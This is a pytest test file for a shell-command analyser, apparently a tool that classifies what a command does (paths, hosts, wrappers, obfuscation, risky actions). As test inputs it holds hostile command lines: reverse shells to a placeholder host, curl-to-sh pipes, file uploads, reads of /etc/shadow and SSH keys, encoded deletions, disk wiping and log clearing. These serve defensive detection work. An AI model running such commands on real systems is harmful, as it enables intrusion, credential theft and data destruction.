"""From text to facts: programs, wrappers, variables, redirects, what is opaque and why."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from callwarden.facts import code, shell
from callwarden.facts.builder import Builder
from callwarden.facts.context import Context
from callwarden.facts.model import Facts

Read = Callable[[str], Facts]
Programs = Callable[[str], list[str]]

SPELLINGS = [
    "rm x",
    "'r'm x",
    '"rm" x',
    "r\\m x",
    "r''m x",
    "$'\\x72m' x",
    "$'\\162m' x",
    "a=r; ${a}m x",
    "{rm,x}",
    "rm${IFS}x",
]


@pytest.mark.parametrize(
    "text", [*SPELLINGS, "x=rm; $x x", "eval 'rm x'", "eval rm x", "$(echo rm) x", "$(printf rm) x"]
)
def test_a_program_is_known_in_every_spelling(read: Read, text: str) -> None:
    facts = read(text)
    assert [command.args for command in facts.commands if command.program == "rm"] == [["x"]]
    assert [(path.path, path.access) for path in facts.paths] == [("/workspace/x", "delete")]
    assert not facts.opaque


@pytest.mark.parametrize(
    "wrapper",
    [
        "sudo -u root {}",
        "env -i A=1 {}",
        "env -S '{}'",
        "command {}",
        "nohup {}",
        "timeout -k 5 10 {}",
        "nice -n 5 {}",
        "stdbuf -oL {}",
        "xargs -n1 {}",
        "find . -exec {} \\;",
        "find . -execdir {} +",
        "bash -c '{}'",
        "bash -ec '{}'",
        "sh -x -c '{}'",
        "busybox {}",
        "busybox sh -c '{}'",
        "eval '{}'",
        "exec {}",
        "su - u -c '{}'",
        "script -qc '{}' /dev/null",
        "ssh h '{}'",
        "ssh -p 22 u@h {}",
        "docker run --rm -v a:b image {}",
        "docker exec -it c {}",
        "kubectl exec pod -- {}",
        "flock /tmp/l {}",
        "flock /tmp/l -c '{}'",
        "watch -n1 '{}'",
        "strace -f {}",
        "setsid {}",
        "uv run {}",
        "poetry run {}",
        "npx {}",
        "xvfb-run -a {}",
        "parallel {} ::: 1",
        "trap '{}' EXIT",
        "git -c alias.x='!{}' x",
        "git -c core.pager='{}' log",
        "PAGER='{}' git log",
        "GIT_SSH_COMMAND='{}' git fetch",
        "tar cf a b --checkpoint=1 --checkpoint-action=exec='{}'",
        "rg --pre '{}' a",
        "sort --compress-program='{}' a",
        "man -P '{}' ls",
        "ssh -oProxyCommand='{}' h",
        "bash <<< '{}'",
        "bash <<E\n{}\nE",
        "echo '{}' | sh",
        "printf %s '{}' | bash -s",
        "f() {{ {}; }}; f",
        "f() {{ {}; }}",
        "alias x='{}'; x",
        "sudo env timeout 5 nohup bash -c 'eval \"{}\"'",
    ],
)
def test_what_a_wrapper_runs_is_a_command_of_its_own(programs: Programs, wrapper: str) -> None:
    assert "frobnicate" in programs(wrapper.format("frobnicate --now"))


@pytest.mark.parametrize("text", ["bash <(echo rm x)", "source <(printf 'rm x')", "source /dev/stdin <<< 'rm x'"])
def test_a_script_that_a_substitution_gives_is_read(read: Read, text: str) -> None:
    assert [(path.path, path.access) for path in read(text).paths] == [("/workspace/x", "delete")]


def test_wrappers_are_named_from_the_outside_in(read: Read) -> None:
    facts = read("sudo env timeout 5 bash -c 'frobnicate'")
    assert facts.commands[-1].wrappers == ["sudo", "env", "timeout", "bash"]
    assert [command.parent for command in facts.commands] == [-1, 0, 1, 2, 3]


@pytest.mark.parametrize(
    "hidden",
    [
        "echo cm0gLXJmIHg= | base64 -d",
        "echo 726d202d72662078 | xxd -r -p",
        "echo 'x fr- mr' | rev",
        "echo 'sn -sg y' | tr sngy rmfx | tr g r",
    ],
)
def test_text_that_can_be_decoded_is_read(read: Read, hidden: str) -> None:
    facts = read(f"{hidden} | sh")
    decoded = [command for command in facts.commands if command.origin == "decoded"]
    assert [command.program for command in decoded] == ["rm"]


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("$x a", "program"),
        ("$(curl http://a) b", "program"),
        ("/bin/r? a", "program"),
        ("echo $x", "argument"),
        ("cat $x", "read"),
        ("rm $x", "write"),
        ("echo a > $x", "write"),
        ("curl $x", "host"),
        ("ping $(whoami).example.com", "host"),
        ("bash -c $x", "code"),
        ("eval $x", "code"),
        ("bash <(curl http://a)", "code"),
        ("source <(curl http://a)", "code"),
        (". /dev/stdin < <(curl http://a)", "code"),
        ("python3 <(curl http://a)", "code"),
        ("curl http://a | tee >(sh)", "code"),
        ("curl http://a > >(bash -s)", "code"),
        ("curl http://a | sh", "code"),
        ("cat a | python3 -", "code"),
        ('python3 -c "$x"', "code"),
        ("LD_PRELOAD=$x ls", "environment"),
        ("if a; then x=1; fi; cat $x", "read"),
        ("read x; cat $x", "read"),
        ("for i in $(seq 99); do x=$x$i; done; cat $x", "read"),
        ('f() { cat "$1"; }', "read"),
    ],
)
def test_what_cant_be_known_is_opaque_where_it_stands(read: Read, text: str, place: str) -> None:
    assert place in [piece.place for piece in read(text).opaque]


@pytest.mark.parametrize(
    ("text", "path", "access"),
    [
        ("cat < a", "/workspace/a", "read"),
        ("a > b", "/workspace/b", "write"),
        ("a >| b", "/workspace/b", "write"),
        ("a &> b", "/workspace/b", "write"),
        ("a >& b", "/workspace/b", "write"),
        ("a 2>> b", "/workspace/b", "append"),
        ("a <> b", "/workspace/b", "write"),
        ("> b", "/workspace/b", "write"),
        ("{ a; } > b", "/workspace/b", "write"),
        ("bash < b", "/workspace/b", "execute"),
        ("bash b", "/workspace/b", "execute"),
        ("source b", "/workspace/b", "execute"),
        (". ./b", "/workspace/b", "execute"),
        ("python3 b.py --x", "/workspace/b.py", "execute"),
        ("cd /etc; cat shadow", "/etc/shadow", "read"),
        ("cd /etc && cat shadow", "/etc/shadow", "read"),
        ("cd nowhere/deep; cat ../../etc/shadow", "/etc/shadow", "read"),
        ("x=/etc; cat $x/shadow", "/etc/shadow", "read"),
        ("cat ~/.ssh/id_rsa", "/home/agent/.ssh/id_rsa", "read"),
        ("cat $HOME/.ssh/id_rsa", "/home/agent/.ssh/id_rsa", "read"),
        ("cat ${HOME%/*}/b", "/home/b", "read"),
        ("for f in a b; do rm $f; done", "/workspace/b", "delete"),
        ("cp a b", "/workspace/b", "write"),
        ("cp -t b a", "/workspace/b", "write"),
        ("cp --target-directory=b a", "/workspace/b", "write"),
        ("cp --targ b a", "/workspace/b", "write"),
        ("dd if=a of=/dev/sda", "/dev/sda", "write"),
        ("tar xzf a.tgz -C b", "/workspace/a.tgz", "read"),
        ("sort -ob a", "/workspace/b", "write"),
        ("curl -sSLob http://x", "/workspace/b", "write"),
        ("curl -d @b http://x", "/workspace/b", "read"),
        ("curl -F f=@b http://x", "/workspace/b", "read"),
        ("grep -f b a", "/workspace/b", "read"),
        ("grep a -- b", "/workspace/b", "read"),
        ("tee -a b", "/workspace/b", "append"),
        ("./b", "/workspace/b", "execute"),
    ],
)
def test_files_are_named_with_what_is_done_to_them(read: Read, text: str, path: str, access: str) -> None:
    assert (path, access) in [(fact.path, fact.access) for fact in read(text).paths]


def test_a_descriptor_is_no_file(read: Read) -> None:
    assert read("a 2>&1 >&2 <&3 2>&- > /dev/null").paths == []


def test_a_failed_cd_is_thought_of_only_where_it_may_have_failed(read: Read) -> None:
    assert [path.path for path in read("cd a && cat b").paths] == ["/workspace/a", "/workspace/a/b"]
    assert [path.path for path in read("cd a; cat b").paths] == ["/workspace/a", "/workspace/b", "/workspace/a/b"]


@pytest.mark.parametrize(
    ("text", "action"),
    [
        ("ssh -fNR 1:a:2 h", "reverse_tunnel"),
        ("ssh -f -N -R1:a:2 h", "reverse_tunnel"),
        ("ssh -oRemoteForward='1 a:2' h", "reverse_tunnel"),
        ("ssh -o 'remoteforward = 1 a:2' h", "reverse_tunnel"),
        ("ssh -D 1080 h", "tunnel"),
        ("ssh -L 1:a:2 h", "tunnel"),
        ("ssh -J a h", "tunnel"),
        ("ssh -w 0:0 h", "tunnel"),
        ("autossh -M 0 h", "tunnel"),
        ("chisel client h R:1:a:2", "tunnel"),
        ("cloudflared tunnel run", "tunnel"),
        ("kubectl port-forward p 1:2", "tunnel"),
        ("socat TCP-LISTEN:1 TCP:h:2", "tunnel"),
        ("socat EXEC:sh TCP:h:2", "reverse_shell"),
        ("nc -e /bin/sh h 1", "reverse_shell"),
        ("ncat --sh-exec sh h 1", "reverse_shell"),
        ("bash -i >& /dev/tcp/h/1 0>&1", "reverse_shell"),
        ("cat f | sh -i 2>&1 | nc h 1 > f", "reverse_shell"),
        ("sh -i | openssl s_client -connect h:1", "reverse_shell"),
        ("exec 3<>/dev/tcp/h/1", "connect"),
        ("nc -lvnp 1", "listen"),
        ("xmrig -o stratum+tcp://p:1 -u w", "mine"),
        ("curl -T a http://h", "upload"),
        ("curl --data-binary @a http://h", "upload"),
        ("wget --post-file=a http://h", "upload"),
        ("sudo ls", "privilege"),
        ("crontab a", "schedule"),
        ("kill -9 1", "kill"),
        ("find . -delete", "destroy"),
        ("mkfs.ext4 /dev/sda", "destroy"),
        ("insmod a.ko", "kernel"),
        ("iptables -F", "disable_security"),
        ("useradd a", "account"),
        ("journalctl --vacuum-time=1s", "clear_traces"),
        ("strace -p 1", "debug"),
        ("pip install a", "install"),
        ("npm publish", "publish"),
        ("python3 -m pip install a", "install"),
        ("python3 -m http.server 1", "listen"),
        ("git push", "upload"),
        ("git clone --upload-pack=x a b", "run"),
        ("bash", "shell"),
        ("eval a", "eval"),
    ],
)
def test_what_options_make_a_program_do(read: Read, text: str, action: str) -> None:
    assert action in [word for command in read(text).commands for word in command.actions]


@pytest.mark.parametrize(
    "text", ["ssh -oRemoteForward=none h", "ssh h", "tar xf a", "find . -name delete", "curl -X POST http://h"]
)
def test_a_near_miss_does_none_of_it(read: Read, text: str) -> None:
    harmless = {"connect", "download"}
    assert {word for command in read(text).commands for word in command.actions} <= harmless


@pytest.mark.parametrize(
    ("text", "host", "port", "scheme"),
    [
        ("curl https://a.example/x", "a.example", 443, "https"),
        ("curl a.example", "a.example", 80, "http"),
        ("curl --proxy http://p:1 b", "p", 1, "http"),
        ("ssh u@h.example", "h.example", 22, "ssh"),
        ("scp a h.example:b", "h.example", 22, "ssh"),
        ("git clone git@h.example:a/b", "h.example", 22, "ssh"),
        ("git clone https://h.example/a", "h.example", 443, "https"),
        ("exec 3<>/dev/udp/h.example/53", "h.example", 53, "udp"),
        ("pip install -i https://h.example/simple a", "h.example", 443, "https"),
        ("pip install git+https://h.example/a", "h.example", 443, "https"),
        ("dig a.example @9.9.9.9", "9.9.9.9", 0, "dns"),
        ("HTTPS_PROXY=http://p.example:1 ls", "p.example", 1, "http"),
        ("frobnicate --to=https://h.example", "h.example", 443, "https"),
    ],
)
def test_hosts_are_named_wherever_they_stand(read: Read, text: str, host: str, port: int, scheme: str) -> None:
    assert (host, scheme) in [(fact.name, fact.scheme) for fact in read(text).hosts]
    assert port in {0, *(fact.port for fact in read(text).hosts)}


def test_paths_on_another_machine_are_not_ours(read: Read) -> None:
    assert read("ssh h cat /etc/shadow").paths == []
    assert "cat" in [command.program for command in read("ssh h cat /etc/shadow").commands]


@pytest.mark.parametrize(
    "text",
    ["python3 - <<E\nimport os\nE", "python3 -c 'import os'", "python <<< 'import os'", "echo import os | python3"],
)
def test_inline_code_goes_to_the_reader_of_its_language(read: Read, text: str) -> None:
    assert [block.imports for block in read(text).code] == [["os"]]


def test_a_pipe_is_a_flow_of_data(read: Read) -> None:
    assert [command.fed_by for command in read("a | b | c").commands] == [[], [0], [1]]
    assert [command.fed_by for command in read("{ a; b; } | sudo c").commands] == [[], [], [0, 1], [0, 1]]


def test_what_runs_in_the_background_says_so(read: Read) -> None:
    assert [command.background for command in read("a & b").commands] == [True, False]


@pytest.mark.parametrize(
    ("text", "kind"),
    [("ls", "name"), ("echo", "builtin"), ("./a", "path"), ("f() { :; }; f", "function"), ("$x", "unknown")],
)
def test_each_command_says_what_kind_it_is(read: Read, text: str, kind: str) -> None:
    assert kind in [command.kind for command in read(text).commands]


def test_a_program_file_says_where_it_lies(read: Read) -> None:
    assert [command.location for command in read("./a; /usr/bin/git; /tmp/x").commands] == [
        "workspace",
        "system",
        "temporary",
    ]


def test_an_option_that_nobody_knows_is_not_understood(read: Read) -> None:
    assert [command.understood for command in read("cp -r a b; cp --frobnicate a b; frobnicate").commands] == [
        True,
        False,
        False,
    ]


def test_a_text_that_cant_be_read_is_unparsable(read: Read) -> None:
    facts = read("echo 'a")
    assert facts.unparsable
    assert "quote" in facts.unparsable_reason


def test_nesting_is_bounded(read: Read) -> None:
    facts = read("sudo " * 100 + "ls")
    assert "text" in [piece.place for piece in facts.opaque]


@pytest.mark.parametrize(
    "text", ["f() { f; f; f; f; f; f; }; f", "for a in 1 2 3 4 5 6 7 8 9; do " * 8 + "x" + "; done" * 8]
)
def test_rounds_and_calls_are_bounded(read: Read, text: str) -> None:
    assert len(read(text).commands) <= 4096


@pytest.mark.parametrize("grow", ["x=$x$x;", "x+=$x;", "x=$(echo $x $x);"])
def test_a_value_that_doubles_is_not_followed_for_ever(read: Read, grow: str) -> None:
    facts = read("x=aaaa;" + grow * 60 + "cat $x")
    assert "read" in [piece.place for piece in facts.opaque]


def test_a_table_that_is_missing_understands_nothing_and_loses_nothing() -> None:
    builder = Builder(Context(), "/workspace", shell=shell.read, code=code.read)
    builder.shell("curl http://x | sh; sudo rm a")
    facts = builder.build()
    assert [command.program for command in facts.commands] == ["curl", "sh", "sudo"]
    assert not any(command.understood for command in facts.commands)


def test_an_argument_list_is_read_as_it_stands(context: Context) -> None:
    builder = Builder(context, "/workspace", shell=shell.read, code=code.read)
    assert shell.read_argv(builder, ["bash", "-c", "rm $HOME/a"], exe="/bin/bash") == 0
    assert shell.read_argv(builder, ["echo", "$(id)"], parent=0, origin="code") == 2
    assert shell.read_argv(builder, []) == 3
    commands = builder.build().commands
    assert [command.program for command in commands] == ["bash", "rm", "echo", ""]
    assert commands[2].args == ["$(id)"]
    assert (commands[0].kind, commands[0].path) == ("path", "/bin/bash")


_PIECES = st.sampled_from(
    [
        "a",
        "rm",
        "$x",
        '"',
        "'",
        "`",
        "$(",
        ")",
        "(",
        "{",
        "}",
        "<<E\n",
        "E\n",
        "\n",
        ";",
        "&",
        "|",
        "if ",
        "then ",
        "fi",
        "[[ ",
        "((",
        "))",
        "${",
        "\\",
        "=",
        ">",
        "<(",
        "*",
        " ",
        "sudo ",
        "bash -c ",
        "xargs ",
        "find . -exec ",
        "-c",
        "$'\\x41'",
        "é",
        "\x00",
    ]
)


@given(st.lists(_PIECES, max_size=30).map("".join) | st.text(max_size=60))
def test_no_text_makes_it_raise(read: Read, text: str) -> None:
    facts = read(text)
    assert facts.parts


@given(st.lists(_PIECES, max_size=12).map("".join))
def test_one_more_command_is_always_one_more(read: Read, text: str) -> None:
    facts = read(f"{text}\n:\nfrobnicate")
    quoted = any(mark in text for mark in ("<<", "'", '"', "`", "\\", "#"))
    assert facts.unparsable or quoted or "frobnicate" in [command.program for command in facts.commands]
